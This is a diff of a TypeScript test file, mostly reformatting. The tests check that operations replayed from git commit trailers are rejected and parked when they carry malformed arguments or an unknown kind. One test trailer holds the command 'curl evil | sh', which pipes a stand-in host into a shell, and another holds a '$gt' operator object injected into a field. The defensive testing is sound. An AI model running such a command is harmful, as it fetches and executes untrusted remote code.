@@ -32,14 +32,36 @@ afterEach(() => l?.cleanup());
 /** A hand-made local commit with `trailer` as its operation. */
 async function handCommit(dir: string, trailer: string): Promise<string> {
   appendFileSync(join(dir, 'run_logs', `${run}.md`), '- 2026-03-22 12:00 UTC — pending — by hand\n');
-  await git(dir, ['commit', '-q', '-m', `${run}: log status`, '-m', `Runlog-Op: ${trailer}`, '--', `run_logs/${run}.md`]);
+  await git(dir, [
+    'commit',
+    '-q',
+    '-m',
+    `${run}: log status`,
+    '-m',
+    `Runlog-Op: ${trailer}`,
+    '--',
+    `run_logs/${run}.md`,
+  ]);
   return (await git(dir, ['rev-parse', 'HEAD'])).trim();
 }
 
 describe('replaying operations read from commits', () => {
   it.each([
-    ['malformed arguments', JSON.stringify({ v: 1, kind: 'append', run: 'x', args: { run: 'x', message: { $gt: '' }, metrics: 'all', at: 7 } }), /append.*(message|metrics|at)/],
-    ['an unknown kind', JSON.stringify({ v: 1, kind: 'exec', args: { command: 'curl evil | sh' } }), /does not know the operation "exec"/],
+    [
+      'malformed arguments',
+      JSON.stringify({
+        v: 1,
+        kind: 'append',
+        run: 'x',
+        args: { run: 'x', message: { $gt: '' }, metrics: 'all', at: 7 },
+      }),
+      /append.*(message|metrics|at)/,
+    ],
+    [
+      'an unknown kind',
+      JSON.stringify({ v: 1, kind: 'exec', args: { command: 'curl evil | sh' } }),
+      /does not know the operation "exec"/,
+    ],
   ])('refuses %s: parked under refs/runlog/conflicts/, nothing applied or pushed', async (_name, trailer, reason) => {
     const hostile = await handCommit(b, trailer);
     await runlogOk(a, ['append', run, 'moved on', '--json']);
